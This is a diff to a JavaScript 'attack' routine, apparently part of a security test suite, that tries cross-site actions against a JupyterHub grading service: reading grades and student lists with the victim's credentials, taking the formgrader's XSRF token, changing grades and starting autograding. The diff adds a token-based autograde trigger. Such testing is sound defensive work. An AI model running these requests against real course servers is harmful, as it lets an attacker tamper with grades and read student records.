@@ -51,7 +51,7 @@ async function attack({ hub, grade, victim, neighbour, toss }) {
     "read grades": () => ask(`${grader}/api/grades?submission_id=1`),
     "read without asking for leave": async () => {
       const answer = await fetch(`${grader}/api/students`, { credentials: "include", mode: "no-cors" });
-      return await answer.text();
+      return (await answer.text()) || Promise.reject(new Error("an answer without a word"));
     },
     "read the form token of the formgrader": () => token(`${grader}/gradebook`),
     "change a grade with the page's token": async () => put({ "X-XSRFToken": await token(`${grader}/gradebook`) }),
@@ -62,6 +62,10 @@ async function attack({ hub, grade, victim, neighbour, toss }) {
     },
     "change a grade by a simple request": () =>
       ask(`${grader}/api/grade/${grade}?_xsrf=tossed`, { method: "POST", body: "{}" }),
+    "start the judge with the page's token": async () => {
+      const headers = { "X-XSRFToken": await token(`${grader}/gradebook`) };
+      return ask(`${grader}/api/assignment/tensor/autograde`, { method: "POST", headers });
+    },
     "start the judge by a form": () => form(`${hub}/services/formgrader/formgrader/api/assignment/tensor/autograde`, { _xsrf: "tossed" }),
     "act on the home page by a form": () => form(`${hub}/services/home/regrades/1`, { text: "yes", form_token: "0" }),
     "read the home page": () => ask(`${hub}/services/home/class`),
